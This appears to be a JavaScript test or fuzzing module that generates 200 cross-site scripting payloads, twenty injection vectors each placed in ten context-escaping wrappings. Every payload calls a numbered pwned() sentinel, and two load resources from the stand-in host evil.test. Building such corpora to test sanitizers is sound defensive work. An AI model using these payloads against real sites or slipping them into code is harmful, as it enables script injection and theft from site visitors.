// Two hundred texts that would run script in a page that took them for more
// than text: twenty things to run, each in ten wrappings.
const deeds = [
  (n) => `<script>pwned(${n})</script>`,
  (n) => `<img src=x onerror=pwned(${n})>`,
  (n) => `<svg onload=pwned(${n})>`,
  (n) => `<svg><script>pwned(${n})</script></svg>`,
  (n) => `<iframe srcdoc="<script>parent.pwned(${n})</script>">`,
  (n) => `<body onload=pwned(${n})>`,
  (n) => `<input autofocus onfocus=pwned(${n})>`,
  (n) => `<details open ontoggle=pwned(${n})>x`,
  (n) => `<a href="javascript:pwned(${n})">x</a>`,
  (n) => `<math><mi xlink:href="javascript:pwned(${n})">`,
  (n) => `<video><source onerror=pwned(${n})>`,
  (n) => `<object data="javascript:pwned(${n})">`,
  (n) => `<style onload=pwned(${n})></style>`,
  (n) => `<marquee onstart=pwned(${n})>`,
  (n) => `javascript:pwned(${n})`,
  (n) => `{{constructor.constructor('pwned(${n})')()}}`,
  (n) => `\${pwned(${n})}`,
  (n) => `<link rel=stylesheet href=//evil.test/${n}>`,
  (n) => `<base href=//evil.test/${n}>`,
  (n) => `<template><img src=x onerror=pwned(${n})></template>`,
];

const wrappings = [
  (x) => x,
  (x) => `">${x}`,
  (x) => `'>${x}`,
  (x) => `</textarea>${x}`,
  (x) => `</title>${x}`,
  (x) => `-->${x}<!--`,
  (x) => `]]>${x}`,
  (x) => `\u202e${x}\u2066`,
  (x) => `__proto__${x}`,
  (x) => `${x.toUpperCase().replaceAll('PWNED', 'pwned')}\u0000\u2028`,
];

export const payloads = deeds.flatMap((deed, i) => wrappings.map((wrap, j) => wrap(deed(i * wrappings.length + j))));
